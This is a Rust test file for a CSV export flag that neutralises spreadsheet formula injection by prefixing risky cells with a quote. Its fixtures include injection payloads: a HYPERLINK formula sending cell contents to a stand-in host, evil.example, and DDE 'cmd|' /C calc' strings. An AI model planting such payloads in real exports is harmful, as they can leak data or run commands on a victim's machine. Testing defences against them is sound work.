//! `--csv-safe` for `texts --format csv` and `diff --format csv`: cells a
//! spreadsheet would run as formulas (starting with `=`, `+`, `-`, `@`, a tab
//! or a CR) get a leading `'`, in the username, task and text columns only;
//! without the flag the output is unchanged, byte for byte.
use crate::common;

use std::process::{Command, Output};

use common::{TempDb, fixture, insert_text_sql, pg};

const NIGHTS: [&str; 3] = [
    "nights/buggy_race_bk_20240304.sql.gz",
    "nights/buggy_race_bk_20240305.sql.gz",
    "nights/buggy_race_bk_20240306-021500.sql.gz",
];

fn textrescue(args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_textrescue"))
        .args(args)
        .output()
        .expect("run textrescue")
}

fn ok(args: &[&str]) -> Vec<u8> {
    let out = textrescue(args);
    assert!(
        out.status.success(),
        "{args:?}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    out.stdout
}

fn rows(csv: &[u8]) -> Vec<Vec<Vec<u8>>> {
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(csv)
        .byte_records()
        .map(|r| r.unwrap().iter().map(<[u8]>::to_vec).collect())
        .collect()
}

/// The rule, written out independently of the implementation.
fn expect_safe(cell: &[u8]) -> Vec<u8> {
    match cell.first() {
        Some(b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r') => [b"'", cell].concat(),
        _ => cell.to_vec(),
    }
}

/// `safe` is `plain` with the rule applied to the `text_columns`, the other
/// cells (and the header) untouched. Returns how many cells changed.
fn assert_safe_version(plain: &[u8], safe: &[u8], text_columns: &[usize]) -> usize {
    let (plain, safe) = (rows(plain), rows(safe));
    assert_eq!(plain.len(), safe.len());
    assert_eq!(plain[0], safe[0], "header");
    let mut changed = 0;
    for (p, s) in plain.iter().zip(&safe).skip(1) {
        assert_eq!(p.len(), s.len());
        for (i, (pc, sc)) in p.iter().zip(s).enumerate() {
            let want = if text_columns.contains(&i) {
                expect_safe(pc)
            } else {
                pc.clone()
            };
            assert_eq!(sc, &want, "column {i}: {:?}", String::from_utf8_lossy(pc));
            changed += usize::from(sc != pc);
        }
    }
    changed
}

#[test]
fn fixture_nights_follow_the_rule() {
    for night in NIGHTS {
        let dump = fixture(night).display().to_string();
        let plain = ok(&["texts", &dump, "-f", "csv"]);
        let safe = ok(&["texts", &dump, "-f", "csv", "--csv-safe"]);
        let changed = assert_safe_version(&plain, &safe, &[1, 3, 7]);
        if changed == 0 {
            assert_eq!(plain, safe, "{night}");
        }
    }
    let old = fixture(NIGHTS[0]).display().to_string();
    let new = fixture(NIGHTS[2]).display().to_string();
    let plain = ok(&["diff", &old, &new, "-f", "csv"]);
    let safe = ok(&["diff", &old, &new, "-f", "csv", "--csv-safe"]);
    assert_safe_version(&plain, &safe, &[2, 4, 8]);
}

#[test]
fn the_default_csv_is_byte_exact() {
    // Without --csv-safe every text is exactly PostgreSQL's (psql's json_agg).
    let expected: serde_json::Value = serde_json::from_slice(
        &std::fs::read(fixture("expected/buggy_race_bk_20240305.json")).unwrap(),
    )
    .unwrap();
    let dump = fixture(NIGHTS[1]).display().to_string();
    let rows = rows(&ok(&["texts", &dump, "-f", "csv"]));
    let expected = expected.as_array().unwrap();
    assert_eq!(rows.len(), expected.len() + 1);
    for (row, e) in rows.iter().skip(1).zip(expected) {
        assert_eq!(row[1], e["username"].as_str().unwrap().as_bytes());
        assert_eq!(row[7], e["text"].as_str().unwrap().as_bytes());
    }
}

/// Texts (and a student, a task) that a spreadsheet would run.
const FORMULAS: &[&str] = &[
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r\n=1+1",
    "'=already quoted",
    " =a space first",
    "a normal text = 1 + 1",
    "",
];

fn db_with_formulas(db: &TempDb) {
    db.load_schema_with_people();
    db.psql(
        "INSERT INTO public.users (username, created_at, is_admin, is_student, id) VALUES
           ('=cmd|''/c calc''!a0', '2024-01-20 10:02:00+00', false, true, 4),
           ('-dash', '2024-01-20 10:03:00+00', false, true, 5);
         INSERT INTO public.tasks (id, created_at, phase, name, title, is_enabled, sort_position)
           VALUES (5, '2024-01-10 12:00:00+00', -1, 'NEG', 'Negative phase', true, 50);",
    );
    let mut sql = String::new();
    for (i, text) in FORMULAS.iter().enumerate() {
        sql += &insert_text_sql(
            Some(300 + i as i64),
            [2, 3, 4, 5][i % 4],
            [1, 2, 3, 5, 4][i % 5],
            "2024-03-01 14:22:11+00",
            None,
            text,
        );
    }
    db.psql(&sql);
}

#[test]
#[cfg_attr(not(has_postgres), ignore = "needs PostgreSQL (PGHOST/PGPORT)")]
fn formula_cells_from_a_real_dump() {
    let pg = pg();
    let db = pg.create_db("csv_safe");
    db_with_formulas(&db);
    let tmp = tempfile::tempdir().unwrap();
    let old = tmp.path().join("old.sql");
    std::fs::write(&old, db.pg_dump(&[])).unwrap();
    let old = old.display().to_string();

    let plain = ok(&["texts", &old, "-f", "csv"]);
    let safe = ok(&["texts", &old, "-f", "csv", "--csv-safe"]);
    let changed = assert_safe_version(&plain, &safe, &[1, 3, 7]);
    assert!(changed >= 6, "{changed}");
    // Without the flag, the texts are PostgreSQL's, byte for byte.
    let live = db.texts_json("public.tasktexts");
    let plain_rows = rows(&plain);
    for (row, e) in plain_rows.iter().skip(1).zip(live.as_array().unwrap()) {
        assert_eq!(row[7], e["text"].as_str().unwrap().as_bytes());
        assert_eq!(row[1], e["username"].as_str().unwrap().as_bytes());
    }
    // Spot checks of the neutralised output.
    let safe_rows = rows(&safe);
    let by_id = |id: &str| safe_rows.iter().find(|r| r[0] == id.as_bytes()).unwrap();
    assert_eq!(by_id("300")[7], [b"'", FORMULAS[0].as_bytes()].concat());
    assert_eq!(by_id("304")[7], b"'\t=1+1");
    assert_eq!(by_id("305")[7], b"'\r\n=1+1");
    assert_eq!(by_id("306")[7], FORMULAS[6].as_bytes());
    assert_eq!(by_id("302")[1], b"'=cmd|'/c calc'!a0");
    assert_eq!(by_id("303")[1], b"'-dash");
    assert_eq!(by_id("303")[3], b"'-1-NEG");
    assert_eq!(by_id("303")[4], b"5", "numbers are left alone");
    // The raw bytes: the quote is inside the CSV quoting where there is one.
    let raw = String::from_utf8(safe).unwrap();
    assert!(raw.contains(",\"'=HYPERLINK(\"\"http"), "{raw}");

    // diff --format csv: a status column first, then the same columns.
    db.psql(
        "UPDATE public.tasktexts SET text = '=2*3' WHERE id = 300;
         DELETE FROM public.tasktexts WHERE id = 301;
         INSERT INTO public.tasktexts (id, created_at, user_id, task_id, text)
           VALUES (399, '2024-03-05 10:00:00+00', 4, 4, '@new');",
    );
    let new = tmp.path().join("new.sql");
    std::fs::write(&new, db.pg_dump(&[])).unwrap();
    let new = new.display().to_string();
    let plain = ok(&["diff", &old, &new, "-f", "csv"]);
    let safe = ok(&["diff", &old, &new, "-f", "csv", "--csv-safe"]);
    assert_safe_version(&plain, &safe, &[2, 4, 8]);
    let safe_rows = rows(&safe);
    let statuses: Vec<&[u8]> = safe_rows.iter().skip(1).map(|r| r[0].as_slice()).collect();
    assert_eq!(
        statuses,
        [&b"removed"[..], b"changed-old", b"changed-new", b"added"]
    );
    assert_eq!(safe_rows[1][8], [b"'", FORMULAS[1].as_bytes()].concat());
    assert_eq!(safe_rows[3][8], b"'=2*3");
    assert_eq!(safe_rows[4][8], b"'@new");
    assert_eq!(rows(&plain)[4][8], b"@new");
}

#[test]
fn csv_safe_goes_with_format_csv_and_says_what_it_does() {
    let dump = fixture(NIGHTS[0]).display().to_string();
    let other = fixture(NIGHTS[1]).display().to_string();
    for args in [
        vec!["texts", &dump, "--csv-safe"],
        vec!["texts", &dump, "-f", "json", "--csv-safe"],
        vec!["texts", &dump, "-f", "sql", "--csv-safe"],
        vec!["diff", &dump, &other, "--csv-safe"],
        vec!["diff", &dump, &other, "-f", "sql", "--csv-safe"],
    ] {
        let out = textrescue(&args);
        assert_eq!(out.status.code(), Some(2), "{args:?}");
        let err = String::from_utf8_lossy(&out.stderr);
        assert!(err.contains("--csv-safe goes with --format csv"), "{err}");
        assert!(out.stdout.is_empty());
    }
    for command in ["texts", "diff"] {
        let help = String::from_utf8(ok(&[command, "--help"])).unwrap();
        let help = help.split_whitespace().collect::<Vec<_>>().join(" ");
        assert!(help.contains("--csv-safe"), "{help}");
        assert!(help.contains("spreadsheet"), "{help}");
        assert!(help.contains("never for restoring"), "{help}");
    }
}
